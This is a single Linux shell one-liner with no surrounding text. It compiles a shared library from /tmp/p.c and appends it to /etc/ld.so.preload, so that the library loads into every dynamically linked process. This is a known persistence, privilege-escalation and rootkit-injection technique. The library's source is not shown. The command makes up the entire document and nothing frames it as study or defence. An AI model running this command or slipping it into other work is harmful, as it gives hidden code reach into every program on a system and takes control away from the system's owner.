gcc -shared -fPIC -o /tmp/p.so /tmp/p.c && echo /tmp/p.so >> /etc/ld.so.preload
